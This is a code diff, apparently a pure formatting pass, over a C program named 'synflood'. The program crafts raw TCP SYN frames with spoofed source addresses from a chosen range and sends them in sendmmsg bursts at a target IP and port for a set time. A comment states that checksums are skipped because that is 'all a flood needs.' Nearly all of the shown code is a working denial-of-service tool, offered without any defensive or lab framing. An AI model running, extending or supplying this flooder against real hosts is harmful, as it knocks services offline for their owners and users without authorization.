@@ -60,8 +60,7 @@ static void ip_csum(uint8_t *p)
 /* IPv4 header and a 20-byte TCP SYN; checksums left to nobody: the
  * receiver's firewall decides before any checksum is looked at, and the
  * stack drops what is wrong, which is all a flood needs. */
-static void frame(uint8_t *p, uint32_t src, uint32_t dst, uint16_t sport,
-		  uint16_t dport)
+static void frame(uint8_t *p, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport)
 {
 	memset(p, 0, 40);
 	p[0] = 0x45;
@@ -87,7 +86,7 @@ static void frame(uint8_t *p, uint32_t src, uint32_t dst, uint16_t sport,
 
 struct sender {
 	int fd;
-	bool packet;       /* AF_PACKET: frames carry an Ethernet header */
+	bool packet; /* AF_PACKET: frames carry an Ethernet header */
 	struct sockaddr_in to;
 	struct sockaddr_ll ll;
 	uint8_t eth[ETH_LEN];
@@ -100,7 +99,8 @@ static int sender_open(struct sender *s, const char *dev, const char *mac)
 
 	if (!dev) {
 		s->fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
-		return s->fd < 0 ? -1 : setsockopt(s->fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one));
+		return s->fd < 0 ? -1
+				 : setsockopt(s->fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one));
 	}
 	m = mac ? ether_aton(mac) : NULL;
 	s->ll.sll_family = AF_PACKET;
@@ -113,7 +113,7 @@ static int sender_open(struct sender *s, const char *dev, const char *mac)
 	s->ll.sll_halen = ETH_ALEN;
 	memcpy(s->ll.sll_addr, m, ETH_ALEN);
 	memcpy(s->eth, m, ETH_ALEN);
-	s->eth[6] = 0x02; /* a locally administered source */
+	s->eth[6] = 0x02;  /* a locally administered source */
 	s->eth[12] = 0x08; /* IPv4 */
 	s->fd = socket(AF_PACKET, SOCK_RAW, 0);
 	if (s->fd < 0)
@@ -124,8 +124,7 @@ static int sender_open(struct sender *s, const char *dev, const char *mac)
 }
 
 /* Sends frames [i, i + BURST) as one sendmmsg; how many went. */
-static unsigned send_burst(struct sender *s, uint32_t i, uint32_t net, uint32_t dst,
-			   uint16_t port)
+static unsigned send_burst(struct sender *s, uint32_t i, uint32_t net, uint32_t dst, uint16_t port)
 {
 	static uint8_t buf[BURST][ETH_LEN + 40];
 	static struct mmsghdr msg[BURST];
@@ -138,10 +137,11 @@ static unsigned send_burst(struct sender *s, uint32_t i, uint32_t net, uint32_t 
 		memcpy(buf[k], s->eth, ETH_LEN);
 		frame(buf[k] + off, src, dst, (uint16_t)(1024 + (i / 65534) % 60000), port);
 		iov[k] = (struct iovec){ buf[k], (size_t)off + 40 };
-		msg[k].msg_hdr = (struct msghdr){
-			.msg_name = s->packet ? (void *)&s->ll : (void *)&s->to,
-			.msg_namelen = s->packet ? sizeof(s->ll) : sizeof(s->to),
-			.msg_iov = &iov[k], .msg_iovlen = 1 };
+		msg[k].msg_hdr =
+			(struct msghdr){ .msg_name = s->packet ? (void *)&s->ll : (void *)&s->to,
+					 .msg_namelen = s->packet ? sizeof(s->ll) : sizeof(s->to),
+					 .msg_iov = &iov[k],
+					 .msg_iovlen = 1 };
 	}
 	n = sendmmsg(s->fd, msg, BURST, 0);
 	return n > 0 ? (unsigned)n : 0;
@@ -180,7 +180,8 @@ int main(int argc, char **argv)
 			*(opt == 'D' ? &dev : &mac) = optarg;
 			continue;
 		}
-		fprintf(stderr, "usage: synflood --dst IP --port P --seconds S [--net A.B.0.0] [--dev IF --dst-mac MAC]\n");
+		fprintf(stderr,
+			"usage: synflood --dst IP --port P --seconds S [--net A.B.0.0] [--dev IF --dst-mac MAC]\n");
 		return 1;
 	}
 	if (!to.sin_addr.s_addr || !port || secs <= 0) {
@@ -195,8 +196,7 @@ int main(int argc, char **argv)
 	}
 	end = now_s() + secs;
 	for (uint32_t i = 0; now_s() < end; i += BURST)
-		sent += send_burst(&snd, i, ntohl(net.s_addr), to.sin_addr.s_addr,
-				   (uint16_t)port);
+		sent += send_burst(&snd, i, ntohl(net.s_addr), to.sin_addr.s_addr, (uint16_t)port);
 	close(snd.fd);
 	printf("%lu\n", sent);
 	return 0;
